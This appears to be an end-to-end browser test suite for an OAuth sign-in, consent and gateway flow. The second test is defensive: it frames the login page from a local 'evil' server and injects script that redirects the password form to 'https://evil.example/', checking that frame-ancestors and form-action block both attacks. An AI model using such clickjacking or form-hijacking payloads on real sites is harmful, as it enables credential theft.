/** A real browser at the pages of an authorization server, up to a call through a gateway. */
import assert from 'node:assert/strict'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { type TestContext, test } from 'node:test'
import { authorize } from '@gatehouse/capability-access/policies/authorize/authorize.ts'
import { jwt } from '@gatehouse/capability-access/policies/jwt/jwt.ts'
import { placed } from '@gatehouse/program/sample.ts'
import { filled } from '@gatehouse/schema'
import * as client from 'openid-client'
import type { Page } from 'playwright-core'
import { browserMissing, openBrowser } from './testing-chromium.ts'
import { closing, makeApi, newDirectory, openGateway, openUpstream, until } from './testing-house.ts'
import { audience, type Issuers, openIssuers } from './testing-issuers.ts'
import { addPerson, password } from './testing-person.ts'
import { begin } from './testing-sign-in.ts'
import { houseStore } from './testing-stores.ts'

/** Where the application waits for its code, on a port of its own as RFC 8252 §7.3 has it. */
async function openCallback(t: TestContext) {
  let back: (address: string) => void
  const called = new Promise<string>(resolve => {
    back = resolve
  })
  const server = createServer((request, response) => {
    if (request.url?.startsWith('/callback')) back(request.url)
    response.end('<!doctype html><title>Back</title>back')
  })
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve))
  t.after(() => server.close())
  const { port } = server.address() as AddressInfo
  return { redirectUri: `http://127.0.0.1:${port}/callback`, called }
}

/** An API that takes tokens of one person alone. */
async function openPets(t: TestContext, { house, issuer }: Issuers, personId: string) {
  const believed = { issuer, audiences: [audience], type: 'at+jwt', unknownClients: 'refuse' as const }
  const rules = [{ name: 'her', when: `identity.subject == '${personId}'` }]
  const policies = [
    placed('jwt', { stage: 'identify', config: filled(jwt.config, believed) }),
    placed('authorize', { stage: 'authorize', config: filled(authorize.config, { rules }) }),
  ]
  const api = await makeApi(house, { name: 'pets', upstreamUrl: await openUpstream(t), policies })
  await api.deploy()
  const token = await house.distribution.enrolmentToken(house.groupId, 60_000)
  return closing(t)(await openGateway({ url: house.url, token, stateDir: newDirectory(t) }))
}

async function isWithin(page: Page, width: number): Promise<void> {
  const wider = await page.evaluate('document.documentElement.scrollWidth > document.documentElement.clientWidth')
  assert.equal(wider, false, `${await page.title()} scrolls sideways at ${width} px`)
}

test('a person chooses a password, signs in, says yes and is sent back with what a gateway takes', {
  skip: browserMissing(),
  timeout: 120_000,
}, async t => {
  const issuers = await openIssuers(t, { store: await houseStore(t) })
  const { redirectUri, called } = await openCallback(t)
  const oauth = { authentication: 'none', grants: ['authorization_code'], redirectUris: ['http://127.0.0.1/callback'] }
  const app = await issuers.client('phone', { scopes: ['pets:read'], oauth })
  const ada = await addPerson(issuers.house, 'ada', { joined: false })
  const pets = await openPets(t, issuers, ada.id)
  const seen = await issuers.seenBy(app)
  const browser = await openBrowser(t)
  const page = await browser.newPage({ viewport: { width: 390, height: 800 }, colorScheme: 'dark' })
  const mistakes: string[] = []
  page.on('console', message => message.type() === 'error' && mistakes.push(message.text()))
  await page.goto(ada.link)
  await isWithin(page, 390)
  await page.getByLabel('Password').fill(password)
  await page.getByRole('button', { name: 'Set password' }).click()
  await page.getByRole('heading', { name: 'Welcome' }).waitFor()
  const begun = await begin(seen, 'openid pets:read', { redirect_uri: redirectUri })
  await page.goto(begun.address.href)
  await isWithin(page, 390)
  await page.getByLabel('E-mail').fill(ada.email)
  await page.getByLabel('Password').fill(password)
  await page.keyboard.press('Enter')
  await page.getByRole('heading', { name: 'Allow phone?' }).waitFor()
  await isWithin(page, 390)
  assert.ok(await page.getByText(`127.0.0.1:${new URL(redirectUri).port}`).isVisible())
  await page.getByRole('button', { name: 'Allow', exact: true }).click()
  const back = new URL(await called, redirectUri)
  const { access_token } = await client.authorizationCodeGrant(seen, back, begun.checks)
  const get = () => pets.get('/pets/x', { authorization: `Bearer ${access_token}` })
  await until(async () => (await get()).status === 200)
  assert.deepEqual(mistakes, [])
})

test('no page can be put into a frame, nor sends a password away', {
  skip: browserMissing(),
  timeout: 60_000,
}, async t => {
  const issuers = await openIssuers(t, { store: await houseStore(t) })
  const oauth = { grants: ['authorization_code'], redirectUris: ['https://shop.example/callback'] }
  const app = await issuers.client('shop', { scopes: ['pets:read'], oauth })
  const { address } = await begin(await issuers.seenBy(app))
  const evil = createServer((_, response) => {
    response
      .setHeader('content-type', 'text/html')
      .end(`<iframe src="${address.href.replaceAll('&', '&amp;')}"></iframe>`)
  })
  await new Promise<void>(resolve => evil.listen(0, '127.0.0.1', resolve))
  t.after(() => evil.close())
  const page = await (await openBrowser(t)).newPage()
  const refused = page.waitForEvent('console', message => /frame-ancestors/.test(message.text()))
  await page.goto(`http://127.0.0.1:${(evil.address() as AddressInfo).port}/`)
  await refused
  await page.goto(address.href)
  const blocked = page.waitForEvent('console', message => /form-action/.test(message.text()))
  await page.evaluate(
    "document.forms[0].action = 'https://evil.example/'; document.querySelector('[name=step]').formNoValidate = true; document.querySelector('[name=step]').click()",
  )
  await blocked
  assert.equal(page.url().startsWith(issuers.url), true)
})
